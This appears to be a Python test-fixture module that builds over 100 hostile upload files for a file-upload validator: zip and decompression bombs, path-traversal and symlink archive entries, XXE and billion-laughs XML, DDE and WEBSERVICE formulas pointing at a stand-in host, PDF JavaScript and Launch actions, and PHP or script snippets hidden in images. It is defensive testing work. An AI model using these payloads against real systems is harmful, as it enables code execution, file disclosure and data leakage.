"""Over 100 files that attack, each made here, and what is to become of it."""

from __future__ import annotations

import gzip
import io
import stat
import struct
import zlib
from base64 import a85encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random
from zipfile import ZIP_BZIP2, ZipFile, ZipInfo

from fourfold.security.edges.uploads import Damaged, NotAllowed, TooLarge, TooMuchInside, Unsafe
from tests.make.files import (
    CSV,
    JSON,
    OBJECTS,
    RUN,
    chunk,
    docx_parts,
    in_letter,
    in_relations,
    in_sheet,
    located,
    ods_parts,
    packed,
    patched,
    pdf,
    picture,
    png,
    replaced,
    stream,
    with_parts,
    xlsx_parts,
)  # fmt: skip

MB = 2**20
NEUTRAL = None
"""Taken, but what was hostile in it is gone."""
SHEET = "xl/worksheets/sheet1.xml"
RELS = "word/_rels/document.xml.rels"
BOOK = "xl/_rels/workbook.xml.rels"


@dataclass(frozen=True)
class Bad:
    """One file: how to make it, and the error it must end in; None: it is neutralized."""

    name: str
    make: Callable[[], bytes]
    error: type[Exception] | None


def sheet_with(rows: bytes) -> bytes:
    return packed(
        xlsx_parts() | {SHEET: b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>"}
    )


def entities(declared: str, used: str) -> bytes:
    text = f"<!DOCTYPE x [{declared}]><worksheet>{used}</worksheet>"
    return packed(xlsx_parts() | {SHEET: text.encode()})


def laughs() -> bytes:
    names = [f'<!ENTITY a0 "{"ha" * 50}">']
    names += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return entities("".join(names), "&a11;")


def link() -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        for name, content in xlsx_parts().items():
            archive.writestr(name, content)
        member = ZipInfo("xl/media/passwd")
        member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(member, "/etc/passwd")
    return out.getvalue()


def upon_each_other() -> bytes:
    """Forty members that share one packed megabyte."""
    whole = packed({"a": bytes(MB)})
    local_length = whole.index(b"PK\x01\x02")
    entry = whole[local_length : whole.index(b"PK\x05\x06")]
    entries = b"".join(entry[:-1] + bytes([97 + n % 26, 48 + n // 26])[:1] for n in range(26))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 26, 26, len(entries), local_length, 0)
    return whole[:local_length] + entries + end


def endless_directory() -> bytes:
    entry = (
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
        + b"x"
    )
    entries = entry * 400_000
    start = packed({"a": b""})[:31]
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 3, 3, len(entries), len(start), 0)
    return start + entries + end


def twice(name: str, other: str) -> bytes:
    whole = packed(xlsx_parts() | {name: b"<a/>"})
    return whole.replace(name.encode(), other.encode())


def archives() -> Iterator[Bad]:
    many = {f"xl/{n}.xml": b"<a/>" for n in range(1_001)}
    noise = Random(7).randbytes(100_000).hex().encode()  # noqa: S311 - the same on every run
    big = {f"xl/{n}.xml": b"<a>" + (noise + b" " * 2 * MB) * 5 + b"</a>" for n in range(10)}
    plain = packed(xlsx_parts())
    yield Bad("a sheet of 120 MB of spaces", lambda: sheet_with(b" " * 120 * MB), TooMuchInside)
    yield Bad("ten parts of 11 MB", lambda: packed(xlsx_parts() | big), TooMuchInside)
    lying = packed({"xl/a.xml": b"<a>" + bytes(50 * MB)} | xlsx_parts())
    yield Bad(
        "a directory that says 1 byte where there are 50 MB",
        lambda: patched(lying, local=22, central=24, form="<I", value=1),
        Damaged,
    )
    yield Bad("members upon each other", upon_each_other, TooMuchInside)
    yield Bad("1,001 parts and more", lambda: packed(xlsx_parts() | many), TooMuchInside)
    yield Bad("a directory of 400,000 entries that says 3", endless_directory, TooMuchInside)
    for name, inner in {
        "an archive": packed({"a": b"b"}),
        "a gzip": gzip.compress(b"a"),
        "a RAR": b"Rar!\x1a\x07\x00",
        "a 7z": b"7z\xbc\xaf\x27\x1c",
        "an xz": b"\xfd7zXZ\x00",
        "a bzip2": b"BZh91AY",
        "a zstd": b"\x28\xb5\x2f\xfd",
        "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "a program of Windows": b"MZ\x90\x00",
        "a program of Linux": b"\x7fELF\x02",
        "a PDF": b"%PDF-1.7",
        "a part of no kind": b"\x01\x02\x03",
    }.items():
        yield Bad(
            f"{name} in a workbook",
            lambda inner=inner: with_parts(xlsx_parts(), xl__x00bin=inner),
            Unsafe,
        )
    for name in (
        "../../x.xml",
        "/etc/x.xml",
        "xl\\..\\x.xml",
        "C:/x.xml",
        "xl/./x.xml",
        "xl//x.xml",
    ):
        yield Bad(
            f"a part named {name}", lambda n=name: packed(xlsx_parts() | {n: b"<a/>"}), Unsafe
        )
    yield Bad("a part with NUL in its name", lambda: twice("xl/aXb.xml", "xl/a\0b.xml"), Unsafe)
    yield Bad("two parts of one name", lambda: twice("xl/sty1es.xml", "xl/styles.xml"), Unsafe)
    yield Bad("two names but for capitals", lambda: twice("xl/sty1es.xml", "xl/Styles.xml"), Unsafe)
    yield Bad("a link to another place", link, Unsafe)
    yield Bad(
        "a locked archive", lambda: patched(plain, local=6, central=8, form="<H", value=1), Unsafe
    )
    yield Bad("packed as bzip2", lambda: packed(xlsx_parts(), method=ZIP_BZIP2), Unsafe)
    yield Bad("a program before the archive", lambda: b"PK\x03\x04" + plain, Unsafe)
    yield Bad("something behind the archive", lambda: plain + b"<script>1</script>", Damaged)
    yield Bad("a comment in the archive", lambda: plain[:-2] + b"\x05\x00hello", Damaged)
    yield Bad("half an archive", lambda: plain[: len(plain) // 2], Damaged)
    yield Bad(
        "a wrong checksum",
        lambda: patched(plain, local=14, central=16, form="<I", value=7),
        Damaged,
    )
    yield Bad("an archive of no office", lambda: packed({"a.txt": b"a"}), NotAllowed)
    yield Bad("a Java archive", lambda: packed({"META-INF/MANIFEST.MF": b"a"}), NotAllowed)
    yield Bad("an empty archive", lambda: packed({}), NotAllowed)


def office() -> Iterator[Bad]:
    book, letter = xlsx_parts(), docx_parts()
    for part in (
        *("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.xml"),
        *("xl/embeddings/oleObject1.bin", "xl/externalLinks/externalLink1.xml"),
        *("xl/connections.xml", "xl/queryTables/queryTable1.xml", "xl/ctrlProps/ctrlProp1.xml"),
        *("xl/media/run.exe", "customUI/customUI.xml"),
    ):
        yield Bad(f"a workbook with {part}", lambda p=part: packed(book | {p: b"<a/>"}), Unsafe)
    yield Bad(
        "a workbook that says it has macros",
        lambda: replaced(
            book, "[Content_Types].xml", "sheet.main+xml", "sheet.macroEnabled.main+xml"
        ),
        Unsafe,
    )
    for name, formula in {
        "DDE": "cmd|'/c calc'!A0",
        "DDE, spelled with numbers": "&#99;md|'/c calc'!A0",
        "a call to the web": 'WEBSERVICE("//x.example/?"&amp;A1)',
        "a call to a library": 'CALL("kernel32","WinExec","JCJ","calc",1)',
        "a link that takes a value along": 'HYPERLINK("//x.example/?"&amp;A1)',
        "real-time data": 'RTD("x",,"y")',
    }.items():
        yield Bad(
            f"a cell with {name}", lambda f=formula: in_sheet(f"<c r='Z9'><f>{f}</f></c>"), Unsafe
        )
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for name, kind, target in (
        ("a template from elsewhere", "attachedTemplate", "https://x.example/a.dotm"),
        ("a picture from elsewhere", "image", "https://x.example/a.png"),
        ("a frame from elsewhere", "frame", "https://x.example/"),
        ("a link to a file", "hyperlink", "file:///etc/passwd"),
        ("a link to a share", "hyperlink", "\\\\x.example\\share"),
        ("a link to a script", "hyperlink", "javascript:1"),
    ):
        relation = (
            f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        )
        yield Bad(f"a letter with {name}", lambda r=relation: in_relations(letter, RELS, r), Unsafe)
    run = "<w:r><w:instrText>%s</w:instrText></w:r>"
    yield Bad("a letter with DDEAUTO", lambda: in_letter(run % "DDEAUTO c:\\\\x"), Unsafe)
    split = run % "DDE" + run % "AUTO c:\\\\x"
    yield Bad("a letter with DDEAUTO in two pieces", lambda: in_letter(split), Unsafe)
    yield Bad(
        "a letter that includes a file", lambda: in_letter(run % 'INCLUDETEXT "//x/a"'), Unsafe
    )
    simple = "<w:fldSimple w:instr='DDEAUTO \"cmd\"'/>"
    yield Bad("a letter with a simple field", lambda: in_letter(simple), Unsafe)
    yield Bad("a letter with a piece of HTML", lambda: in_letter("<w:altChunk/>"), Unsafe)
    for name, inside, attribute in (
        ("a script", "<script:script/>", ""),
        ("a listener", '<script:event-listener script:event-name="on-load"/>', ""),
        ("a DDE source", "<office:dde-source/>", ""),
        ("cells from elsewhere", "<table:cell-range-source/>", ""),
        ("a picture from elsewhere", '<draw:image xlink:href="https://x.example/a.png"/>', ""),
        ("a DDE formula", "", 'table:formula=\'of:=DDE("soffice";"/x";"A1")\''),
    ):
        yield Bad(
            f"a table with {name}", lambda i=inside, a=attribute: packed(ods_parts(i, a)), Unsafe
        )
    yield Bad("a table with Basic", lambda: packed(ods_parts() | {"Basic/a.xml": b"<a/>"}), Unsafe)


def xml() -> Iterator[Bad]:
    yield Bad("a billion laughs", laughs, Unsafe)
    yield Bad(
        "one long entity, often",
        lambda: entities(f'<!ENTITY a "{"x" * 90_000}">', "&a;" * 9_000),
        Unsafe,
    )
    yield Bad(
        "an entity from a file",
        lambda: entities('<!ENTITY a SYSTEM "file:///etc/x">', "&a;"),
        Unsafe,
    )
    yield Bad(
        "an entity of the type", lambda: entities('<!ENTITY % a SYSTEM "//x">%a;', ""), Unsafe
    )
    yield Bad("nothing but a type", lambda: entities("", ""), Unsafe)
    wide = "<worksheet/>".encode("utf-16")
    yield Bad("XML in UTF-16", lambda: packed(xlsx_parts() | {SHEET: wide}), Unsafe)
    yield Bad("XML nested 100,000 deep", lambda: sheet_with(b"<a>" * 100_000), TooLarge)
    cells = b"".join(b"<c r='%d'/>" % number for number in range(1_000_000))
    yield Bad("over a million cells", lambda: sheet_with(cells), TooLarge)
    long = Random(7).randbytes(2 * MB).hex().encode()  # noqa: S311 - the same on every run
    yield Bad("a value of 4 MB", lambda: sheet_with(b"<c r='%s'/>" % long), TooLarge)
    yield Bad("tags that do not fit", lambda: sheet_with(b"<a></b>"), Damaged)


def pictures() -> Iterator[Bad]:
    jpeg, dot = picture("JPEG"), picture("PNG")
    yield Bad("a PNG that says 60,000 x 60,000", lambda: png(60_000, 60_000), TooLarge)
    yield Bad(
        "a PNG of 36 million pixels", lambda: png(6_000, 6_000, rows=bytes(108_006_000)), TooLarge
    )
    yield Bad("a PNG one pixel high and too long", lambda: png(2**31 - 1, 1), TooLarge)
    bomb = zlib.compress(bytes(60 * MB))
    zipped = chunk(b"zTXt", b"a\0\0" + bomb), chunk(b"iCCP", b"a\0\0" + bomb)
    yield Bad("a PNG with a text of 60 MB, packed", lambda: png(9, 9, zipped[0]), Damaged)
    yield Bad("a PNG with a profile of 60 MB, packed", lambda: png(9, 9, zipped[1]), Damaged)
    yield Bad("a PNG with no pixels", lambda: png(600, 400), Damaged)
    at = jpeg.index(b"\xff\xc0")
    huge = jpeg[: at + 5] + struct.pack(">HH", 65_500, 65_500) + jpeg[at + 9 :]
    yield Bad("a JPEG that says 65,500 x 65,500", lambda: huge, TooLarge)
    yield Bad("a JPEG in 500 steps", lambda: jpeg[:-2] + b"\xff\xda" * 500 + jpeg[-2:], TooLarge)
    yield Bad("half a JPEG", lambda: picture("JPEG", (900, 900))[:4_000], Damaged)
    yield Bad("half a PNG", lambda: dot[:60], Damaged)
    yield Bad("only the start of a JPEG", lambda: b"\xff\xd8\xff\xe0" + bytes(50), Damaged)
    yield Bad("a JPEG that is also an archive", lambda: jpeg + packed({"a": b"hx7q"}), NEUTRAL)
    yield Bad("a PNG that is also a page", lambda: dot + b"<script>hx7q</script>", NEUTRAL)
    comment = b"\xff\xfe" + struct.pack(">H", 30) + b"<?php system('hx7q'); ?>    "
    yield Bad(
        "a JPEG with a program as its comment", lambda: jpeg[:2] + comment + jpeg[2:], NEUTRAL
    )
    text = chunk(b"tEXt", b"Comment\0<script>hx7q</script>")
    yield Bad(
        "a PNG with a script as its text", lambda: png(9, 9, text, rows=bytes(28 * 9)), NEUTRAL
    )
    yield Bad("a JPEG that says where", lambda: located("JPEG"), NEUTRAL)
    yield Bad("a PNG that says where", lambda: located("PNG"), NEUTRAL)
    for form in ("GIF", "BMP", "TIFF", "WEBP", "ICO"):
        yield Bad(f"a picture as {form}", lambda f=form: picture(f), NotAllowed)
    yield Bad("a drawing as SVG", lambda: b"<svg onload='hx7q'/>", NotAllowed)


def papers() -> Iterator[Bad]:
    for name, inside in {
        "JavaScript": b"<< /S /JavaScript /JS (1) >>",
        "JavaScript in another spelling": b"<< /S /J#61vaScr#69pt /JS (1) >>",
        "a program to launch": b"<< /S /Launch /F (cmd.exe) >>",
        "a file within": b"<< /Type /EmbeddedFile >>",
        "files within, by name": b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
        "a form that is sent": b"<< /S /SubmitForm /F (//x) >>",
        "a form of its own kind": b"<< /AcroForm << /XFA 9 0 R >> >>",
        "another file to open": b"<< /S /GoToR /F (x.pdf) >>",
        "a film": b"<< /Subtype /RichMedia >>",
        "a lock": b"<< /Encrypt 9 0 R >>",
        "JavaScript among packed objects": stream(RUN, OBJECTS),
        "JavaScript in a stream that says picture": stream(RUN, b"/Subtype /Image"),
        "JavaScript behind a comment": stream(RUN, OBJECTS + b" % 1 0 obj\n"),
        "objects packed as text": stream(a85encode(RUN), OBJECTS, filters=b"/ASCII85Decode"),
        "objects packed twice": stream(zlib.compress(RUN), OBJECTS),
        "objects packed with steps": stream(RUN, OBJECTS + b" /DecodeParms << /Predictor 12 >>"),
    }.items():
        yield Bad(f"a PDF with {name}", lambda i=inside: pdf(i), Unsafe)
    yield Bad("a PDF that unpacks to 110 MB", lambda: pdf(stream(bytes(110 * MB))), TooMuchInside)
    yield Bad("a PDF of 20,001 parts", lambda: pdf(*[stream(b"a")] * 20_001), TooMuchInside)
    yield Bad("a PDF that is also an archive", lambda: pdf() + packed({"a": b"b"}), Unsafe)
    yield Bad("a PDF that is also a page", lambda: b"%PDF-1.7 <html><script>" + pdf(), Unsafe)
    yield Bad("a PDF with more behind its end", lambda: pdf() + b"x" * 5_000, Damaged)
    yield Bad("a PDF without an end", lambda: pdf(end=b""), Damaged)
    yield Bad("a PDF behind something else", lambda: b"GIF89a" + bytes(9) + pdf(), NotAllowed)


def texts() -> Iterator[Bad]:
    for name, content in {
        "a page": b"<!DOCTYPE html><script>1</script>",
        "a page behind spaces": b" \r\n\t<html>",
        "a script of a shell": b"#!/bin/sh\nrm x\n",
        "a program": b"MZ\x90\x00" + bytes(99),
        "rich text": b"{\\rtf1 {\\object x}}",
        "PostScript": b"%!PS-Adobe-3.0\n",
        "a table in UTF-16": "a,b\n1,2\n".encode("utf-16"),
    }.items():
        yield Bad(f"{name} sent as a table", lambda c=content: c, NotAllowed)
    pad = b"1,2\n" * 2_000
    yield Bad("a table with NUL inside", lambda: CSV + pad + b"\0", Unsafe)
    yield Bad("a table with escape codes", lambda: CSV + pad + b"\x1b[2J", Unsafe)
    yield Bad("a table that is not UTF-8", lambda: CSV + pad + b"\xe9\n", Damaged)
    yield Bad("a table with half letters", lambda: CSV + pad + b"\xed\xa0\x80\n", Damaged)
    yield Bad("a table with one cell of 200 KB", lambda: CSV + b"x" * 200_000, Damaged)
    yield Bad("a table with a line of 20 MB", lambda: CSV + b"x," * 10 * MB, TooLarge)
    yield Bad("a table of 12 million lines", lambda: b"1\n" * 12 * MB, TooLarge)
    yield Bad("a quote that never ends", lambda: CSV + b'"' + b"x\n" * 99_000, Damaged)
    for name, content, error in (
        ("100,000 brackets deep", b"[" * 100_000 + b"]" * 100_000, Damaged),
        ("eight million lists", b"[" + b"[]," * 8_000_000 + b"1]", TooLarge),
        ("the same name twice", b'{"a": 1, "a": 2}', Damaged),
        ("NaN", b"[NaN]", Damaged),
        ("a number of a million digits", b"[" + b"9" * 1_000_000 + b"]", Damaged),
        ("something behind it", JSON + b"}", Damaged),
    ):
        yield Bad(f"JSON with {name}", lambda c=content: c, error)
    yield Bad("nothing", lambda: b"", Damaged)
    yield Bad("nothing but spaces", lambda: b" \n" * 99, Damaged)
    yield Bad("one byte over 25 MB", lambda: b"1,2\n" * (25 * MB // 4) + b"1", TooLarge)


def hostile_files() -> list[Bad]:
    return [each for make in (archives, office, xml, pictures, papers, texts) for each in make()]
